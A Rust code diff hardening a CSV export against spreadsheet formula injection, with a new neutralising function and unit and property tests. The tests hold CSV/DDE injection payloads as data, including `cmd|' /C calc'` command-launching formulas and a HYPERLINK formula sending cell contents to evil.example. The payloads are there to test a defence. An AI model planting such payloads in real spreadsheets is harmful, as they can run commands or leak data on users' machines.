@@ -16,8 +16,20 @@
 //!   (links never contain spaces);
 //! - `created`, `modified`: RFC 3339, UTC.
 //!
-//! Text cells that begin with `=`, `+`, `-`, `@`, a tab or a carriage return get a leading
-//! `'`, so that a spreadsheet does not run article text as a formula (CSV injection).
+//! # Formula neutralisation (CSV injection)
+//!
+//! Following OWASP's CSV-injection guidance, every cell except `start` and `end` goes through
+//! [`neutralise`]: a cell whose first character, after any leading white space, is `=`, `+`,
+//! `-`, `@`, a tab, a carriage return, a line feed, or one of the full-width forms `＝` `＋`
+//! `－` `＠` gets a leading `'`, so that a spreadsheet shows it as text instead of running it as
+//! a formula. This covers the title, the URL (an imported article's source URL is any text),
+//! the quote, the note, the tags, the claimant, the evidence, and also the columns we fill
+//! ourselves (`kind`, `verdict`, `created`, `modified`), which never start with one of those
+//! characters today but are not numbers. `start` and `end` are written by us from unsigned
+//! integers, so they can never start with `-` or any other of those characters and are left
+//! as they are, so that a spreadsheet still reads them as numbers. Cells are quoted by the
+//! `csv` crate when they contain a comma, a quote or a line break; the `'` is part of the
+//! cell's text and survives a CSV reader.
 
 use crate::core::library::Library;
 use crate::core::model::Body;
@@ -69,22 +81,22 @@ pub fn export(library: &Library) -> String {
                     .unwrap_or_default(),
             ),
         };
+        // `start` and `end` are unsigned numbers written by us; every other cell is text and
+        // is neutralised (see the module documentation).
         let record = [
-            safe(article.map_or("", |x| x.title.as_str())),
-            article
-                .and_then(|x| x.source_url.clone())
-                .unwrap_or_default(),
-            a.kind().as_str().to_owned(),
-            safe(&a.quote.exact),
+            neutralise(article.map_or("", |x| x.title.as_str())),
+            neutralise(article.and_then(|x| x.source_url.as_deref()).unwrap_or("")),
+            neutralise(a.kind().as_str()),
+            neutralise(&a.quote.exact),
             a.start.to_string(),
             a.end.to_string(),
-            safe(&a.note),
-            safe(&a.tags.join("; ")),
-            verdict.to_owned(),
-            safe(a.who()),
-            evidence,
-            a.created.to_rfc3339(),
-            a.modified.to_rfc3339(),
+            neutralise(&a.note),
+            neutralise(&a.tags.join("; ")),
+            neutralise(verdict),
+            neutralise(a.who()),
+            neutralise(&evidence),
+            neutralise(&a.created.to_rfc3339()),
+            neutralise(&a.modified.to_rfc3339()),
         ];
         let _ = w.write_record(&record);
     }
@@ -94,9 +106,27 @@ pub fn export(library: &Library) -> String {
     String::from_utf8(bytes).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
 }
 
-/// Prefixes `'` to a cell a spreadsheet would read as a formula.
-fn safe(cell: &str) -> String {
-    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+/// The characters that make a spreadsheet read a cell as a formula (or, for tab, carriage
+/// return and line feed, that some spreadsheets skip before one), after OWASP's CSV-injection
+/// guidance, with the full-width forms that some spreadsheets fold to their ASCII ones.
+pub const FORMULA_TRIGGERS: [char; 11] = [
+    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+];
+
+/// Whether a spreadsheet could read `cell` as a formula: skipping leading white space (which
+/// some spreadsheets skip), the first character that is not white space or is itself one of
+/// [`FORMULA_TRIGGERS`] (tab, carriage return, line feed) is one of them. So `=1`, ` =1`,
+/// `\t1` and ` \n1` are formula-like; `1-2`, `a=b` and `'=1` are not.
+pub fn is_formula_like(cell: &str) -> bool {
+    cell.chars()
+        .find(|c| !c.is_whitespace() || FORMULA_TRIGGERS.contains(c))
+        .is_some_and(|c| FORMULA_TRIGGERS.contains(&c))
+}
+
+/// `cell` with a leading `'` when [`is_formula_like`], else `cell` unchanged. The result is
+/// never formula-like, since it then starts with `'`.
+pub fn neutralise(cell: &str) -> String {
+    if is_formula_like(cell) {
         format!("'{cell}")
     } else {
         cell.to_owned()
@@ -162,10 +192,136 @@ mod tests {
         assert_eq!(export(&lib), expected);
     }
 
+    /// Every hostile prefix, bare and after the leading white space variants, gets a `'`.
     #[test]
-    fn formula_cells_are_defused() {
-        assert_eq!(safe("=1+1"), "'=1+1");
-        assert_eq!(safe("-5 people"), "'-5 people");
-        assert_eq!(safe("ok"), "ok");
+    fn hostile_cells_get_a_leading_quote() {
+        let payloads = [
+            "=1+1",
+            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "-5 people",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+            "\tplain",
+            "\rplain",
+            "\nplain",
+            "＝1+1",
+            "＋1",
+            "－1",
+            "＠SUM(A1)",
+        ];
+        let leading = ["", " ", "  ", "\u{A0}", "\u{3000}", " \t", "\n "];
+        for p in payloads {
+            for w in leading {
+                let cell = format!("{w}{p}");
+                assert!(is_formula_like(&cell), "{cell:?}");
+                assert_eq!(neutralise(&cell), format!("'{cell}"), "{cell:?}");
+                assert!(!is_formula_like(&neutralise(&cell)), "{cell:?}");
+            }
+        }
+        for ok in [
+            "ok",
+            "19,000 strikes",
+            "'=already",
+            "a=b",
+            "1-2",
+            "",
+            "   ",
+            "https://a.example/-",
+        ] {
+            assert!(!is_formula_like(ok), "{ok:?}");
+            assert_eq!(neutralise(ok), ok);
+        }
+    }
+
+    /// A library whose title, URL, quote, note, tags, claimant and evidence are all hostile:
+    /// read back with the `csv` crate, no cell of the export is formula-like, each text cell is
+    /// its value with a leading `'`, and the offsets are plain numbers.
+    #[test]
+    fn every_text_column_of_the_export_is_neutralised() {
+        let art = Article::new(
+            Uuid::from_u128(1),
+            "=HYPERLINK(\"https://evil.example\",\"Click\")",
+            Some("=cmd|' /C calc'!A0".into()),
+            "@SUM(A1) and more",
+        );
+        let mut claim = Annotation::new(
+            Uuid::from_u128(2),
+            art.id,
+            Kind::Claim,
+            &art.text,
+            0,
+            8,
+            Timestamp(0),
+        );
+        claim.note = " +1+1".into();
+        claim.tags = vec!["-tag".into(), "ok".into()];
+        claim.body = Body::Claim(ClaimFields {
+            claimant: "＝1+1".into(),
+            verdict: Verdict::False,
+            evidence: vec![],
+        });
+        let lib = Library {
+            articles: vec![art],
+            annotations: vec![claim],
+        };
+        let out = export(&lib);
+        let mut r = ::csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(out.as_bytes());
+        let rows: Vec<::csv::StringRecord> = r.records().filter_map(Result::ok).collect();
+        assert_eq!(rows.len(), 1);
+        let row = &rows[0];
+        let expected = [
+            "'=HYPERLINK(\"https://evil.example\",\"Click\")",
+            "'=cmd|' /C calc'!A0",
+            "claim",
+            "'@SUM(A1)",
+            "0",
+            "8",
+            "' +1+1",
+            "'-tag; ok",
+            "False",
+            "'＝1+1",
+            "",
+            "1970-01-01T00:00:00.000Z",
+            "1970-01-01T00:00:00.000Z",
+        ];
+        assert_eq!(row.iter().collect::<Vec<_>>(), expected);
+        for cell in row.iter() {
+            assert!(!is_formula_like(cell), "{cell:?}");
+        }
+    }
+
+    proptest::proptest! {
+        /// Any cell, neutralised and written with the `csv` crate, reads back as exactly the
+        /// neutralised text, which is the cell itself or the cell after a `'`, and is never
+        /// formula-like.
+        #[test]
+        fn neutralised_cells_round_trip(
+            cell in proptest::prop_oneof![
+                proptest::string::string_regex("[ \t\r\n\u{A0}\u{3000}]{0,3}[=+@\t\r\n\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}'\",a-]{0,3}.{0,12}").unwrap_or_else(|_| unreachable!()),
+                proptest::prelude::any::<String>(),
+            ]
+        ) {
+            let safe = neutralise(&cell);
+            let prefixed = format!("'{cell}");
+            proptest::prop_assert!(safe == cell || safe == prefixed, "{:?} -> {:?}", cell, safe);
+            proptest::prop_assert!(!is_formula_like(&safe));
+            let mut w = ::csv::WriterBuilder::new()
+                .terminator(::csv::Terminator::CRLF)
+                .from_writer(Vec::new());
+            proptest::prop_assert!(w.write_record([safe.as_str(), "end"]).is_ok());
+            let bytes = w.into_inner().unwrap_or_default();
+            let mut r = ::csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(bytes.as_slice());
+            let rows: Vec<::csv::StringRecord> = r.records().filter_map(Result::ok).collect();
+            proptest::prop_assert_eq!(rows.len(), 1);
+            proptest::prop_assert_eq!(rows[0].iter().collect::<Vec<_>>(), vec![safe.as_str(), "end"]);
+        }
     }
 }
